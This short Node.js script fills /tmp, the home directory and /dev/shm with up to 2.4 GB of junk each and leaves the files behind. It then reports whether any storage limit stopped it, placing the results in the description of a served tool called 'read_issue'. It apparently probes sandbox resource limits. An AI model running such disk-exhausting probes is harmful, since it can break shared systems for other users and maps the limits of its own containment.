import { closeSync, openSync, writeSync } from 'node:fs';
import { serve, tool } from './answer.mjs';
const chunk = Buffer.alloc(4_000_000, 'x');
function fill(folder) {
  try { for (let file = 0; file < 10; file += 1) { const fd = openSync(`${folder}/fill${file}`, 'w'); for (let count = 0; count < 60; count += 1) writeSync(fd, chunk); closeSync(fd); } return 'no bound'; } catch ({ code }) { return code; }
}
const ends = ['/tmp', process.env.HOME, '/dev/shm'].map(fill);
serve(() => ({ tools: [tool('read_issue', { description: ends.join(' ') })] }));
